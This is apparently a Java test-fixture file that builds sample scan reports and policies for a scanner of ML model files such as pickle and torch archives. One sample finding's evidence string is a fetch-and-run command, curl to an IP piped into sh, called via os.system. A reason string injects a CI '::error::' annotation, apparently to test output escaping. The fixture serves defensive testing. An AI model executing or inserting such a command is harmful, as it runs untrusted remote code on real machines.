package org.modelscan.report;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.modelscan.policy.Allow;
import org.modelscan.policy.Baseline;
import org.modelscan.policy.Context;
import org.modelscan.policy.Policy;
import org.modelscan.policy.PolicyError;
import org.modelscan.policy.Position;
import org.modelscan.policy.Trust;
import org.modelscan.rule.Finding;
import org.modelscan.rule.Place;
import org.modelscan.rule.RuleId;
import org.modelscan.rule.Rules;
import org.modelscan.rule.Severity;
import org.modelscan.scan.Outcome;
import org.modelscan.scan.Report;
import org.modelscan.scan.Result;

/** Scan results for the tests of reports. */
final class Samples {
  static final Rules RULES = new Rules();
  static final String VERSION = "1.2.3";

  private Samples() {}

  /** One of everything. */
  static Report report() {
    Finding command =
        finding(
            RuleId.PICKLE_RUNS_COMMAND,
            new Place("models/churn.pkl", List.of(), 27),
            "os.system",
            "calls os.system when it is loaded: runs a shell command",
            "os.system('curl http://203.0.113.7/x | sh')");
    Finding unknown =
        finding(
            RuleId.PICKLE_UNKNOWN_IMPORT,
            new Place("models/encoder v2.pt", List.of("archive/data.pkl"), 12),
            "mycompany.layers.Encoder",
            "needs mycompany.layers.Encoder, code that is not in the file",
            "");
    return new Report(
        List.of(
            complete("models/churn.pkl", "pickle", 120, command),
            complete("models/encoder v2.pt", "torch-zip", 4_711, unknown),
            new Result(
                "models/torn.pkl",
                "pickle",
                new Outcome.Incomplete("ends early at byte 9"),
                List.of(),
                List.of("ends early at byte 9"),
                9),
            complete("models/ünïcode #1/good.pkl", "pickle", 64),
            new Result(
                "weights/big.safetensors",
                "git-lfs",
                new Outcome.NotScanned(
                    "Git LFS pointer (4.2 GB): check out with lfs: true, or set lfs: fetch"),
                List.of(),
                List.of(),
                134)),
        3_481,
        Duration.ofMillis(412));
  }

  /** A policy that accepts one finding, knows another, and has entries that are of no use. */
  static Policy policy() {
    Finding command = report().findings().findFirst().orElseThrow();
    Finding unknown = report().findings().skip(1).findFirst().orElseThrow();
    String baseline =
        """
        {"version": "1", "findings": [
          {"path": "%s", "rule": "%s", "symbol": "", "fingerprint": "%s:1"}]}
        """
            .formatted(unknown.place().path(), unknown.rule().id().id(), unknown.fingerprint());
    try {
      return new Policy(
              Optional.of(Severity.HIGH),
              Severity.LOW,
              true,
              Set.of(RuleId.KERAS_LAMBDA),
              List.of(new Trust("mycompany.models.*")),
              List.of(
                  allow(command, "prints `one` line\n::error::@someone", Optional.empty(), 3),
                  allow(command, "too late", Optional.of(LocalDate.of(2026, 1, 31)), 4)),
              Optional.empty())
          .withBaseline(Baseline.parse("baseline.json", baseline.getBytes(StandardCharsets.UTF_8)));
    } catch (PolicyError impossible) {
      throw new IllegalStateException(impossible);
    }
  }

  /** The same with an entry whose day is over, and none that holds. */
  static Policy expiredPolicy() {
    return new Policy(
        Optional.of(Severity.HIGH),
        Severity.LOW,
        true,
        Set.of(),
        List.of(),
        List.of(policy().allowed().getLast()),
        Optional.empty());
  }

  private static Allow allow(
      Finding finding, String reason, Optional<LocalDate> expires, int line) {
    return new Allow(
        finding.rule().id(),
        Optional.empty(),
        Optional.of(finding.place().path()),
        Optional.of(finding.symbol()),
        reason,
        expires,
        new Position("modelscan.yml", line, 5));
  }

  /** A scan that found models and nothing in them. */
  static Report clean() {
    return new Report(List.of(complete("good.pkl", "pickle", 64)), 3_481, Duration.ofMillis(412));
  }

  /** A scan that found no model. */
  static Report empty() {
    return new Report(List.of(), 3_481, Duration.ofMillis(412));
  }

  static Result complete(String path, String format, long bytes, Finding... findings) {
    return new Result(path, format, new Outcome.Complete(), List.of(findings), List.of(), bytes);
  }

  static Finding finding(RuleId rule, Place place, String symbol, String message, String evidence) {
    return new Finding(RULES.get(rule), place, symbol, message, evidence);
  }

  static String written(String format, Look look, Report report) {
    return written(format, look, report, Policy.DEFAULT);
  }

  static String written(String format, Look look, Report report, Policy policy) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try {
      Reports.named(format, look, RULES, VERSION)
          .orElseThrow()
          .write(policy.decide(report, Context.NONE), bytes);
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
    return bytes.toString(StandardCharsets.UTF_8);
  }
}
